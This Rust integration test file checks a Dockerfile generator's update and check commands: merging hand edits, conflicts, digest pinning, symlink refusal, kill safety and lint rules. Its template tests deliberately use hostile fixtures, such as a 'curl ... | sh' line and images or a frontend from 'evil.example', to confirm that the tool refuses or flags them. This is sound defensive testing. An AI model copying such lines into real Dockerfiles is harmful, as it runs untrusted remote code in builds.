//! `dockgen update` and `dockgen check` as scripts see them: exit codes, streams, files.

#![allow(clippy::unwrap_used, reason = "a test that cannot run the command must fail")]
#![allow(clippy::print_stdout, reason = "how often a kill hit is worth knowing")]

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Instant;

use serde_json::Value;
use tempfile::TempDir;

const MAIN: &str = "package main\n\nimport \"net/http\"\n\nfunc main() {\n\thttp.ListenAndServe(\":8080\", nil)\n}\n";

fn write(folder: &Path, path: &str, text: &str) {
    let path = folder.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn read(folder: &Path, path: &str) -> String {
    fs::read_to_string(folder.join(path)).unwrap()
}

fn module(folder: &Path, at: &str, version: &str) {
    write(folder, &format!("{at}go.mod"), &format!("module example.com/hello\n\ngo {version}\n"));
}

/// A Go module with one program, and what `init` wrote for it.
fn hello() -> TempDir {
    let dir = empty();
    module(dir.path(), "", "1.26");
    write(dir.path(), "main.go", MAIN);
    run(dir.path(), &["init", "--yes"], 0);
    dir
}

fn empty() -> TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs::create_dir(dir.path().join(".git")).unwrap();
    dir
}

fn command(folder: &Path, args: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_dockgen"));
    command.current_dir(folder).args(args).stdin(Stdio::null()).env_remove("NO_COLOR");
    command
}

/// Runs it, expects this exit code, and gives both streams.
fn run(folder: &Path, args: &[&str], code: i32) -> (String, String) {
    let output = command(folder, args).output().unwrap();
    let (out, err) =
        (String::from_utf8(output.stdout).unwrap(), String::from_utf8(output.stderr).unwrap());
    assert_eq!(output.status.code(), Some(code), "{args:?}\n{out}\n{err}");
    (out, err)
}

/// The same text without the line breaks that a narrow terminal makes.
fn flat(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Every file of a folder.
fn files(folder: &Path) -> BTreeMap<String, String> {
    fn visit(root: &Path, at: &Path, all: &mut BTreeMap<String, String>) {
        for entry in fs::read_dir(at).unwrap().map(Result::unwrap) {
            let path = entry.path();
            if path.is_dir() {
                visit(root, &path, all);
            } else {
                let name = path.strip_prefix(root).unwrap().to_str().unwrap().to_owned();
                all.insert(name, fs::read_to_string(&path).unwrap());
            }
        }
    }
    let mut all = BTreeMap::new();
    visit(folder, folder, &mut all);
    all
}

/// Replaces text in a file, which must be there.
fn replace(folder: &Path, path: &str, from: &str, to: &str) {
    let text = read(folder, path);
    assert!(text.contains(from), "{path} holds no {from:?}:\n{text}");
    fs::write(folder.join(path), text.replacen(from, to, 1)).unwrap();
}

#[test]
fn a_second_run_changes_nothing() {
    let dir = hello();
    let before = files(dir.path());
    assert!(before.contains_key(".dockgen/state.json"), "{before:?}");
    run(dir.path(), &["init", "--yes"], 0);
    run(dir.path(), &["update", "--yes"], 0);
    let (out, _) = run(dir.path(), &["check"], 0);
    assert!(out.contains("up to date"), "{out}");
    assert_eq!(files(dir.path()), before);
    // An edit of a source that moves nothing is no reason to touch a file.
    write(dir.path(), "main.go", &MAIN.replace("nil)", "nil) // all of them"));
    run(dir.path(), &["update"], 0);
    run(dir.path(), &["check"], 0);
    assert_eq!(read(dir.path(), ".dockgen/state.json"), before[".dockgen/state.json"]);
}

#[test]
fn a_fact_that_moved_is_told_and_merged_with_the_edit() {
    let dir = hello();
    replace(dir.path(), "Dockerfile", "\nUSER ", "\nENV BY_HAND=1\n\nUSER ");
    replace(dir.path(), ".dockerignore", "# ", "by-hand/\n# ");
    let edited = read(dir.path(), "Dockerfile");
    let (out, _) = run(dir.path(), &["check"], 0);
    assert!(out.contains("up to date"), "an edit by hand is no drift: {out}");

    module(dir.path(), "", "1.27");
    let (out, _) = run(dir.path(), &["check"], 1);
    assert!(flat(&out).contains("toolchain 1.26 -> 1.27 (go.mod:3)"), "{out}");
    assert!(out.contains("Dockerfile is behind"), "{out}");
    let (out, _) = run(dir.path(), &["update", "--dry-run"], 0);
    assert!(out.contains("+FROM") && out.contains("Nothing was written"), "{out}");
    assert_eq!(read(dir.path(), "Dockerfile"), edited);

    let (out, _) = run(dir.path(), &["update"], 0);
    assert!(
        flat(&out).contains("toolchain 1.26 -> 1.27 (go.mod:3)") && out.contains("updated"),
        "{out}"
    );
    assert_eq!(read(dir.path(), "Dockerfile"), edited.replace("golang:1.26", "golang:1.27"));
    assert!(read(dir.path(), ".dockerignore").contains("by-hand/"));
    run(dir.path(), &["check"], 0);
    let after = files(dir.path());
    run(dir.path(), &["update"], 0);
    assert_eq!(files(dir.path()), after);
}

#[test]
fn formats_for_scripts_and_for_github() {
    let dir = empty();
    module(dir.path(), "apps/api/", "1.26");
    write(dir.path(), "apps/api/main.go", MAIN);
    let app = dir.path().join("apps/api");
    run(&app, &["init", "--yes"], 0);
    module(dir.path(), "apps/api/", "1.27");
    let (out, _) = run(&app, &["check", "--format", "github"], 1);
    let first = out.lines().next().unwrap();
    assert_eq!(
        first,
        "::error file=apps/api/go.mod,line=3,title=dockgen%3A moved::toolchain 1.26 -> 1.27"
    );
    assert!(out.contains("::error file=apps/api/Dockerfile,line=1,"), "{out}");
    let (out, _) = run(&app, &["check", "--format", "json"], 1);
    let json: Value = serde_json::from_str(&out).unwrap();
    assert_eq!((&json["schema"], &json["drift"]), (&Value::from(1), &Value::from(true)));
    let moved = &json["apps"][0]["moved"][0];
    assert_eq!((moved["what"].as_str(), moved["new"].as_str()), (Some("toolchain"), Some("1.27")));
    let (out, _) = run(dir.path(), &["update", "--json"], 0);
    let json: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(json["apps"][0]["path"], "apps/api");
    let (out, _) = run(dir.path(), &["check", "--format", "github"], 0);
    assert_eq!(out, "");
}

#[test]
fn a_conflict_is_refused_until_somebody_settles_it() {
    let dir = hello();
    replace(dir.path(), "Dockerfile", "golang:1.26-trixie", "golang:1.26-mine");
    module(dir.path(), "", "1.27");
    let before = files(dir.path());
    let (out, err) = run(dir.path(), &["update"], 1);
    assert!(out.contains("golang:1.26-mine") && out.contains("golang:1.27-trixie"), "{out}");
    assert!(err.contains("nothing was written") && err.contains("--conflict=ours"), "{err}");
    let (out, _) = run(dir.path(), &["check"], 1);
    assert!(out.contains("conflict"), "{out}");
    assert_eq!(files(dir.path()), before);

    for (how, code, kept) in [("ours", 0, "golang:1.26-mine"), ("theirs", 0, "golang:1.27-trixie")]
    {
        for (path, text) in &before {
            write(dir.path(), path, text);
        }
        run(dir.path(), &["update", "--conflict", how], code);
        assert!(read(dir.path(), "Dockerfile").contains(kept));
        run(dir.path(), &["check"], 0);
    }
    for (path, text) in &before {
        write(dir.path(), path, text);
    }
    run(dir.path(), &["update", "--conflict=markers"], 1);
    let marked = read(dir.path(), "Dockerfile");
    assert!(marked.contains("<<<<<<< on disk") && marked.contains("golang:1.26-mine"), "{marked}");
    for command in ["update", "check"] {
        let (_, err) = run(dir.path(), &[command], 2);
        assert!(err.contains("Dockerfile:6: a conflict marker"), "{err}");
    }
}

#[test]
fn what_was_deleted_is_written_anew() {
    let dir = hello();
    let before = files(dir.path());
    for path in ["Dockerfile", ".dockerignore"] {
        fs::remove_file(dir.path().join(path)).unwrap();
        let (out, _) = run(dir.path(), &["check"], 1);
        assert!(out.contains(&format!("{path} is missing")), "{out}");
    }
    let (out, _) = run(dir.path(), &["update"], 0);
    assert!(out.contains("wrote"), "{out}");
    assert_eq!(files(dir.path()), before);
    // What a person removed from the file stays removed.
    replace(
        dir.path(),
        "Dockerfile",
        "# The module requires no other: nothing is downloaded.\n",
        "",
    );
    module(dir.path(), "", "1.27");
    run(dir.path(), &["update"], 0);
    assert!(!read(dir.path(), "Dockerfile").contains("nothing is downloaded"));
}

#[test]
fn a_file_that_somebody_else_wrote_is_adopted_on_request() {
    let dir = empty();
    module(dir.path(), "", "1.26");
    write(dir.path(), "main.go", MAIN);
    let (_, err) = run(dir.path(), &["update"], 2);
    assert!(err.contains("run `dockgen init`"), "{err}");
    let (_, err) = run(dir.path(), &["check"], 2);
    assert!(err.contains("run `dockgen init`"), "{err}");

    let (generated, _) = run(dir.path(), &["init", "--stdout", "--quiet"], 0);
    let own = generated
        .replace("\nUSER ", "\nENV MINE=1\n\nUSER ")
        .replace("# hello: written by dockgen", "# mine");
    write(dir.path(), "Dockerfile", &own);
    write(dir.path(), ".dockerignore", "secret/\n");
    for command in ["update", "check"] {
        let (_, err) = run(dir.path(), &[command], 2);
        assert!(
            err.contains("update --adopt") && err.contains("was not written by dockgen"),
            "{err}"
        );
    }
    let (out, _) = run(dir.path(), &["update", "--adopt"], 0);
    assert!(out.contains("adopted"), "{out}");
    assert_eq!(
        (read(dir.path(), "Dockerfile"), read(dir.path(), ".dockerignore")),
        (own.clone(), "secret/\n".to_owned())
    );
    run(dir.path(), &["update"], 0);
    assert_eq!(
        (read(dir.path(), "Dockerfile"), read(dir.path(), ".dockerignore")),
        (own.clone(), "secret/\n".to_owned())
    );

    module(dir.path(), "", "1.27");
    run(dir.path(), &["update"], 0);
    assert_eq!(read(dir.path(), "Dockerfile"), own.replace("golang:1.26", "golang:1.27"));
}

#[test]
fn the_state_of_another_version() {
    let dir = hello();
    // One that kept no state, only copies.
    fs::remove_file(dir.path().join(".dockgen/state.json")).unwrap();
    replace(dir.path(), "Dockerfile", "\nUSER ", "\nENV A=1\n\nUSER ");
    module(dir.path(), "", "1.27");
    run(dir.path(), &["check"], 1);
    run(dir.path(), &["update"], 0);
    let text = read(dir.path(), "Dockerfile");
    assert!(text.contains("golang:1.27") && text.contains("ENV A=1"), "{text}");
    run(dir.path(), &["check"], 0);

    let good = read(dir.path(), ".dockgen/state.json");
    for (bad, says) in [
        (
            good.replace("\"schema\": 1", "\"schema\": 9")
                .replace("\"dockgen\": \"", "\"dockgen\": \"9"),
            "newer",
        ),
        ("<<<<<<< HEAD\n".to_owned() + &good, "not a state file"),
        (
            good.replace("\"dockerfile\": \"Dockerfile\"", "\"dockerfile\": \"../../x\""),
            "is outside the repository",
        ),
    ] {
        write(dir.path(), ".dockgen/state.json", &bad);
        let before = files(dir.path());
        for command in ["update", "check"] {
            let (_, err) = run(dir.path(), &[command], 2);
            assert!(err.contains(says) && err.contains(".dockgen/state.json"), "{err}");
        }
        assert_eq!(files(dir.path()), before);
    }
}

#[test]
fn templates_that_moved_are_told_apart_from_facts() {
    let dir = hello();
    let version = env!("CARGO_PKG_VERSION");
    replace(
        dir.path(),
        ".dockgen/state.json",
        &format!("\"dockgen\": \"{version}\""),
        "\"dockgen\": \"0.0.1\"",
    );
    replace(dir.path(), ".dockgen/state.json", "\"templates\": \"", "\"templates\": \"other");
    run(dir.path(), &["check"], 0);
    for file in [".dockgen/Dockerfile", "Dockerfile"] {
        replace(dir.path(), file, "yours to edit", "to be edited");
    }
    let (out, _) = run(dir.path(), &["check"], 1);
    assert!(out.contains(&format!("the templates: dockgen 0.0.1 -> {version}")), "{out}");
    assert!(!out.contains("toolchain") && !out.contains("changed since"), "{out}");
    run(dir.path(), &["update"], 0);
    assert!(read(dir.path(), "Dockerfile").contains("yours to edit"));
    assert!(
        read(dir.path(), ".dockgen/state.json").contains(&format!("\"dockgen\": \"{version}\""))
    );
}

#[test]
fn an_input_that_moved_no_fact_is_named() {
    let dir = hello();
    write(dir.path(), ".gitignore", "generated/\n");
    let (out, _) = run(dir.path(), &["check"], 1);
    assert!(
        out.contains(".dockerignore is behind") && out.contains("changed since: .gitignore"),
        "{out}"
    );
    run(dir.path(), &["update"], 0);
    assert!(read(dir.path(), ".dockerignore").contains("generated"));
    run(dir.path(), &["check"], 0);
}

#[test]
fn several_applications() {
    let dir = empty();
    for app in ["apps/a/", "apps/b/"] {
        module(dir.path(), app, "1.26");
        write(dir.path(), &format!("{app}main.go"), MAIN);
    }
    run(dir.path(), &["init", "--yes"], 0);
    module(dir.path(), "apps/c/", "1.26");
    write(dir.path(), "apps/c/main.go", MAIN);
    let (out, _) = run(dir.path(), &["check"], 0);
    assert!(out.contains("apps/c") && out.contains("nothing for it"), "{out}");
    // The same state, seen from elsewhere.
    run(&dir.path().join("apps/a"), &["check"], 0);

    module(dir.path(), "apps/a/", "1.27");
    module(dir.path(), "apps/b/", "1.27");
    replace(dir.path(), "apps/b/Dockerfile", "golang:1.26-trixie", "golang:1.26-mine");
    let before = files(dir.path());
    run(dir.path(), &["update"], 1);
    assert_eq!(files(dir.path()), before, "one conflict holds back all");
    run(dir.path(), &["update", "--app", "apps/a"], 0);
    assert!(read(dir.path(), "apps/a/Dockerfile").contains("golang:1.27"));
    assert_eq!(read(dir.path(), "apps/b/Dockerfile"), before["apps/b/Dockerfile"]);
    assert!(!dir.path().join("apps/c/Dockerfile").exists());
}

#[test]
fn line_endings_and_a_missing_final_newline_stay() {
    let dir = hello();
    let dressed = |text: &str| text.trim_end().replace('\n', "\r\n");
    let text = read(dir.path(), "Dockerfile").replace("\nUSER ", "\nENV A=1\n\nUSER ");
    write(dir.path(), "Dockerfile", &dressed(&text));
    run(dir.path(), &["check"], 0);
    module(dir.path(), "", "1.27");
    run(dir.path(), &["update"], 0);
    assert_eq!(
        read(dir.path(), "Dockerfile"),
        dressed(&text.replace("golang:1.26", "golang:1.27"))
    );
}

#[test]
fn answers_hold_and_contradictions_are_told() {
    let dir = hello();
    replace(dir.path(), "Dockerfile", "\nUSER ", "\nENV A=1\n\nUSER ");
    // `init` would refuse an edited file; an update merges the answer in.
    run(dir.path(), &["init", "--yes", "--toolchain", "1.27"], 2);
    let (out, _) = run(dir.path(), &["update", "--toolchain", "1.27"], 0);
    assert!(out.contains("dockgen.toml"), "{out}");
    let text = read(dir.path(), "Dockerfile");
    assert!(text.contains("golang:1.27") && text.contains("ENV A=1"), "{text}");
    let (out, _) = run(dir.path(), &["check"], 0);
    let out = flat(&out);
    assert!(
        out.contains("toolchain: dockgen.toml says 1.27") && out.contains("says 1.26 (go.mod:3)"),
        "{out}"
    );
    write(dir.path(), "dockgen.toml", "[answers]\ntoolchain = 1.27\n");
    let (_, err) = run(dir.path(), &["check"], 2);
    assert!(err.contains("dockgen.toml:2"), "{err}");
}

#[test]
fn a_dockerfile_elsewhere_is_found_again() {
    let dir = empty();
    module(dir.path(), "", "1.26");
    write(dir.path(), "main.go", MAIN);
    fs::create_dir(dir.path().join("deploy")).unwrap();
    run(dir.path(), &["init", "--yes", "--output", "deploy/app.Dockerfile"], 0);
    module(dir.path(), "", "1.27");
    run(dir.path(), &["update"], 0);
    assert!(read(dir.path(), "deploy/app.Dockerfile").contains("golang:1.27"));
    assert!(!dir.path().join("Dockerfile").exists());
    run(dir.path(), &["check"], 0);
}

#[test]
fn rules_are_checked_on_the_file_as_it_stands() {
    let dir = hello();
    replace(dir.path(), "Dockerfile", "USER 65532:65532", "USER root");
    let (out, _) = run(dir.path(), &["check"], 1);
    assert!(out.contains("DG004"), "{out}");
    let (out, _) = run(dir.path(), &["check", "--format", "github"], 1);
    assert!(
        out.starts_with("::error file=Dockerfile,line=") && out.contains("dockgen%3A rule"),
        "{out}"
    );
    replace(dir.path(), "Dockerfile", "USER root", "# dockgen: allow=DG004\nUSER root");
    run(dir.path(), &["check"], 0);
    // A decision by hand is told, and is no failure.
    replace(dir.path(), "Dockerfile", "golang:1.26-trixie", "golang:1.26-bookworm");
    let (out, _) = run(dir.path(), &["check"], 0);
    assert!(out.contains("note") && out.contains("DG008"), "{out}");
    write(dir.path(), "Dockerfile", "no dockerfile\n");
    for command in ["update", "check"] {
        let (_, err) = run(dir.path(), &[command], 2);
        assert!(err.contains("Dockerfile, line 1"), "{err}");
    }
}

#[test]
fn a_merge_that_breaks_a_rule_is_refused() {
    let dir = hello();
    // The last output had no certificates, and somebody gave the stage that they come from another
    // name.
    let certificates = "COPY --from=build /etc/ssl/certs/ca-certificates.crt /etc/ssl/certs/\n";
    for file in [".dockgen/Dockerfile", "Dockerfile"] {
        replace(dir.path(), file, certificates, "");
    }
    replace(dir.path(), "Dockerfile", "FROM deps AS build", "FROM deps AS compile");
    replace(
        dir.path(),
        "Dockerfile",
        "COPY --from=build /out/hello",
        "COPY --from=compile /out/hello",
    );
    run(dir.path(), &["check"], 1);
    let before = files(dir.path());
    let (out, err) = run(dir.path(), &["update"], 1);
    assert!(out.contains("DG003") && err.contains("nothing was written"), "{out}\n{err}");
    assert_eq!(files(dir.path()), before);
    run(dir.path(), &["update", "--conflict=ours"], 0);
    assert!(read(dir.path(), "Dockerfile").contains(certificates));
}

#[test]
fn the_schema_is_json_and_knows_the_questions() {
    let dir = empty();
    let (out, _) = run(dir.path(), &["schema"], 0);
    let schema: Value = serde_json::from_str(&out).unwrap();
    let known = &schema["properties"]["answers"]["properties"];
    for id in [
        "args",
        "base",
        "dev",
        "entrypoint",
        "env",
        "name",
        "port",
        "tool",
        "toolchain",
        "writable",
    ] {
        assert!(known[id]["description"].is_string(), "{id}");
    }
}

/// A `docker` with buildx that answers every question with the digest in a file beside it, or fails
/// where there is none.
#[cfg(unix)]
fn engine() -> TempDir {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let script = "#!/bin/sh\n[ \"$2\" = version ] && exit\nread -r line < \"$(dirname \"$0\")/digest\" || exit 1\nprintf '\"%s\"\\n' \"$line\"\n";
    write(dir.path(), "docker", script);
    fs::set_permissions(dir.path().join("docker"), fs::Permissions::from_mode(0o755)).unwrap();
    dir
}

#[cfg(unix)]
#[test]
fn digests_are_written_kept_and_moved() {
    let (dir, engine) = (hello(), engine());
    let path = format!("{}:/usr/bin:/bin", engine.path().display());
    let pinned = |args: &[&str]| {
        let output = command(dir.path(), args).env("PATH", &path).output().unwrap();
        let text =
            String::from_utf8(output.stdout).unwrap() + &String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(0), "{args:?}\n{text}");
        flat(&text)
    };
    let digest = |c: &str| format!("sha256:{}", c.repeat(64));
    replace(dir.path(), "Dockerfile", "\nUSER ", "\nENV A=1\n\nUSER ");

    let before = read(dir.path(), "Dockerfile");
    let text = pinned(&["update", "--pin"]);
    assert!(text.contains("-trixie, and it stays without one"), "{text}");
    assert_eq!(read(dir.path(), "Dockerfile"), before);

    write(engine.path(), "digest", &(digest("a") + "\n"));
    pinned(&["update", "--pin"]);
    let held = format!("golang:1.26-trixie@{}", digest("a"));
    let text = read(dir.path(), "Dockerfile");
    assert!(text.contains(&held) && text.contains("ENV A=1"), "{text}");
    run(dir.path(), &["check"], 0);
    run(dir.path(), &["update"], 0);
    assert_eq!(read(dir.path(), "Dockerfile"), text, "without --pin, digests stay");

    write(engine.path(), "digest", &(digest("b") + "\n"));
    let told = pinned(&["update", "--pin"]);
    assert!(told.contains("digest of golang:1.26-trixie sha256:aaa"), "{told}");
    assert!(read(dir.path(), "Dockerfile").contains(&digest("b")));
    fs::remove_file(engine.path().join("digest")).unwrap();
    let told = pinned(&["update", "--pin"]);
    assert!(told.contains("-trixie, and sha256:bbb") && told.contains("b stays:"), "{told}");
    assert!(read(dir.path(), "Dockerfile").contains(&digest("b")));

    // The image moved, and nobody has read its digest yet.
    module(dir.path(), "", "1.27");
    let (out, _) = run(dir.path(), &["update"], 0);
    assert!(flat(&out).contains("could not read the digest of golang:1.27-trixie"), "{out}");
    assert!(read(dir.path(), "Dockerfile").contains("golang:1.27-trixie AS"));
}

/// `--unpin` is the way back: tags alone, edits by hand kept, and nothing brings the digests back
/// but `--pin`.
#[cfg(unix)]
#[test]
fn digests_are_dropped_again() {
    let (dir, engine) = (hello(), engine());
    replace(dir.path(), "Dockerfile", "\nUSER ", "\nENV A=1\n\nUSER ");
    let before = files(dir.path());
    let (_, digest) = run(dir.path(), &["update", "--unpin"], 0);
    assert_eq!((files(dir.path()), digest.as_str()), (before.clone(), ""), "nothing is pinned");

    let digest = format!("sha256:{}", "a".repeat(64));
    write(engine.path(), "digest", &format!("{digest}\n"));
    let path = format!("{}:/usr/bin:/bin", engine.path().display());
    let pin = || {
        assert!(
            command(dir.path(), &["update", "--pin"])
                .env("PATH", &path)
                .output()
                .unwrap()
                .status
                .success()
        );
    };
    pin();
    let pinned = files(dir.path());
    assert!(
        pinned["Dockerfile"].contains(&digest) && pinned[".dockgen/state.json"].contains(&digest)
    );
    run(dir.path(), &["update", "--unpin", "--dry-run"], 0);
    assert_eq!(files(dir.path()), pinned);
    let (out, _) = run(dir.path(), &["update", "--unpin"], 0);
    assert!(
        flat(&out).contains("moved digest of golang:1.26-trixie sha256:aaa")
            && out.contains("a: gone"),
        "{out}"
    );
    assert_eq!(files(dir.path()), before);
    run(dir.path(), &["check"], 0);
    run(dir.path(), &["update"], 0);
    assert_eq!(files(dir.path()), before, "without --pin, digests stay away");

    // A line that was edited since is a conflict, as in every update.
    pin();
    replace(dir.path(), "Dockerfile", &format!("golang:1.26-trixie@{digest}"), "golang:1.26-mine");
    let edited = files(dir.path());
    run(dir.path(), &["update", "--unpin"], 1);
    assert_eq!(files(dir.path()), edited);
    run(dir.path(), &["update", "--unpin", "--conflict=ours"], 0);
    let text = read(dir.path(), "Dockerfile");
    assert!(text.contains("golang:1.26-mine") && !text.contains("sha256"), "{text}");
}

#[cfg(unix)]
#[test]
fn symlinks_are_refused() {
    let dir = hello();
    let target = dir.path().join("elsewhere");
    fs::rename(dir.path().join("Dockerfile"), &target).unwrap();
    std::os::unix::fs::symlink(&target, dir.path().join("Dockerfile")).unwrap();
    module(dir.path(), "", "1.27");
    let before = fs::read_to_string(&target).unwrap();
    let (_, err) = run(dir.path(), &["update"], 2);
    assert!(err.contains("symlink"), "{err}");
    assert_eq!(fs::read_to_string(&target).unwrap(), before);
}

/// Killed at any moment, each file is the old one or the new one, and the next run settles.
#[test]
fn kill_leaves_the_old_file_or_the_new_one() {
    const ROUNDS: u32 = 40;
    let dir = hello();
    let texts = |version: &str| {
        module(dir.path(), "", version);
        run(dir.path(), &["update"], 0);
        files(dir.path())
    };
    replace(dir.path(), "Dockerfile", "\nUSER ", "\nENV BY_HAND=1\n\nUSER ");
    let states = [texts("1.27"), texts("1.26")];
    let started = Instant::now();
    run(dir.path(), &["check"], 0);
    let whole = started.elapsed();
    let (mut killed, mut torn) = (0, 0);
    for round in 0..ROUNDS {
        let version = if round % 2 == 0 { "1.27" } else { "1.26" };
        module(dir.path(), "", version);
        let mut child = command(dir.path(), &["update"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        // From the middle of the run to a little after its end: where the writing is.
        std::thread::sleep(whole / 2 + whole * round / ROUNDS);
        child.kill().unwrap();
        killed += u32::from(child.wait().unwrap().code().is_none());
        let mut seen = [false; 2];
        for path in ["Dockerfile", ".dockerignore", ".dockgen/Dockerfile", ".dockgen/state.json"] {
            let text = read(dir.path(), path);
            let of = states.each_ref().map(|state| state[path] == text);
            assert!(of[0] || of[1], "round {round}: {path} is neither old nor new:\n{text}");
            if of[0] != of[1] {
                seen = [seen[0] || of[0], seen[1] || of[1]];
            }
        }
        torn += u32::from(seen == [true; 2]);
        run(dir.path(), &["update"], 0);
        let expected = &states[(round % 2) as usize];
        for (path, text) in expected.iter().filter(|(path, _)| !path.starts_with(".dockgen-")) {
            assert_eq!(&read(dir.path(), path), text, "round {round}");
        }
    }
    println!("{killed} of {ROUNDS} were killed, {torn} between two files");
}

#[test]
fn templates_of_the_repository_are_named_and_silence_nothing() {
    let dir = hello();
    assert!(!run(dir.path(), &["check"], 0).0.contains("replaces dockgen's own templates"));
    let place = ".dockgen/templates/base/start.Dockerfile";
    let template = |text: &str| {
        fs::create_dir_all(dir.path().join(".dockgen/templates/base")).unwrap();
        write(dir.path(), place, text);
    };
    let include = "{% include \"builtin/base/start.Dockerfile\" %}";
    // Of another language: nothing of it is used.
    write(dir.path(), ".dockgen/templates/node.Dockerfile", "FROM evil.example/x:1\n");
    template(&format!("RUN [\"/bin/evil\"]\n{include}"));
    let words = format!("the repository replaces dockgen's own templates: {place}, with 1 line");
    for args in [
        &["init", "--yes", "--dry-run"][..],
        &["explain"],
        &["check"],
        &["update", "--dry-run"],
        &["check", "--format", "github"],
    ] {
        let output = command(dir.path(), args).output().unwrap();
        let out = flat(&String::from_utf8(output.stdout).unwrap());
        assert!(out.contains(&words) && !out.contains("node.Dockerfile"), "{args:?}: {out}");
    }
    for args in [
        &["init", "--yes", "--dry-run", "--json"][..],
        &["explain", "--json"],
        &["check", "--format", "json"],
    ] {
        let output = command(dir.path(), args).output().unwrap();
        let value: Value = serde_json::from_slice(&output.stdout).unwrap();
        assert_eq!(value["apps"][0]["overrides"], serde_json::json!([place]), "{args:?}");
    }
    // A comment in a template allows no image, no command without a shell and no frontend.
    for (comment, code) in [
        ("# dockgen: allow=DG007\nRUN curl -s http://x.example | sh\n", "DG007"),
        ("# dockgen: allow=DG008\nCOPY --from=evil.example/x:1 /a /b\n", "DG008"),
        ("# dockgen: allow=DG008,DG009\nCOPY --from=evil.example/x:latest /a /b\n", "DG009"),
    ] {
        template(&format!("{comment}{include}"));
        let (_, err) = run(dir.path(), &["init", "--yes", "--force"], 2);
        assert!(err.contains(code), "{code}: {err}");
    }
}

#[test]
fn a_foreign_frontend_is_never_silent() {
    let dir = hello();
    let text = read(dir.path(), "Dockerfile");
    let line = text.lines().next().unwrap().to_owned();
    let evil = "# syntax=evil.example/x/dockerfile:1";
    replace(dir.path(), "Dockerfile", &line, evil);
    let (out, _) = run(dir.path(), &["check"], 1);
    assert!(flat(&out).contains("DG001") && out.contains("evil.example/x/dockerfile"), "{out}");
    replace(dir.path(), "Dockerfile", evil, &format!("{evil}\n\n# dockgen: allow=DG001"));
    let (out, _) = run(dir.path(), &["check"], 0);
    let told = flat(&out);
    assert!(told.contains("note DG001") && told.contains("(a comment allows it)"), "{out}");
}

#[test]
fn rules_that_an_adopted_file_breaks_are_notes() {
    let dir = hello();
    let own = "FROM golang:1.26\nWORKDIR /src\nCOPY . .\nRUN go build -o /hello .\nUSER app\nCMD /hello\n";
    fs::write(dir.path().join("Dockerfile"), own).unwrap();
    fs::remove_dir_all(dir.path().join(".dockgen")).ok();
    run(dir.path(), &["update", "--adopt"], 0);
    assert_eq!(read(dir.path(), "Dockerfile"), own);
    let (out, _) = run(dir.path(), &["check"], 0);
    let out = flat(&out);
    assert!(out.contains("the file was adopted with it") && out.contains("DG001"), "{out}");
    // It stays so, and what comes later is an error.
    run(dir.path(), &["update"], 0);
    run(dir.path(), &["check"], 0);
    fs::write(dir.path().join("Dockerfile"), own.replace("USER app", "USER root")).unwrap();
    let (out, _) = run(dir.path(), &["check"], 1);
    assert!(out.contains("rule"), "{out}");
}
